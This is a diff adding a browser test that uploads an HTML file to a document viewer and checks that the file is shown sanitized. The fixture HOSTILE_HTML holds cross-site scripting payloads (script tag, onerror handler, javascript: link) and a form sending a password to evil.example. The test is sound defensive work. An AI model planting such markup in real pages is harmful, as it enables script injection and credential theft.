@@ -162,3 +162,37 @@ async def test_a_cited_word_document_opens_as_its_indexed_text_with_the_passage_
     await expect(viewer.locator(".document-body p", has_text="Book flights two weeks ahead.")).to_be_visible()
     await expect(viewer.get_by_test_id("viewer-content")).to_have_attribute("data-highlighted", re.compile(r"\w"))
     assert "bookflightstwoweeksahead" in _fold(await _highlighted(page))
+
+
+HOSTILE_HTML = b"""<!doctype html><html><head><title>Runbook</title><style>body{display:none}</style>
+<script>window.__pwned = 'script'</script></head><body>
+<h1>Runbook</h1>
+<p style="color:red">Restart the worker with <b>systemctl restart ragchat-worker</b> after changing settings.</p>
+<img src="x" onerror="window.__pwned = 'onerror'">
+<a href="javascript:window.__pwned = 'link'">click me</a>
+<form action="https://evil.example/steal"><input name="password"></form>
+<iframe src="https://evil.example/"></iframe>
+</body></html>"""
+
+
+async def test_an_html_document_is_shown_sanitized(page: Page, server: ServerProcess) -> None:
+    violations, hosts = _watch(page)
+    await sign_up(page, "html-viewer@example.com")
+    await page.get_by_test_id("nav-documents").click()
+    await page.get_by_test_id("upload-input").set_input_files(
+        files=[FilePayload(name="runbook.html", mimeType="text/html", buffer=HOSTILE_HTML)]
+    )
+    row = page.locator('[data-testid="document-row"][data-filename="runbook.html"]')
+    await expect(row.get_by_test_id("doc-status")).to_have_attribute("data-status", "ready", timeout=60_000)
+    await row.get_by_test_id("view-document").click()
+
+    body = page.get_by_test_id("document-viewer").get_by_test_id("document-text")
+    await expect(body.locator("h1")).to_have_text("Runbook")
+    await expect(body.locator("b")).to_have_text("systemctl restart ragchat-worker")
+    await expect(body.get_by_text("click me")).to_be_visible()
+    assert await body.locator("script, style, img, form, input, iframe, [style], [onerror]").count() == 0
+    assert await body.locator("a").get_attribute("href") is None  # the javascript: URL is gone
+    await body.get_by_text("click me").click()
+    assert await page.evaluate("() => window.__pwned ?? null") is None
+    assert not violations, violations
+    assert set(hosts) == {urlsplit(server.url).netloc}
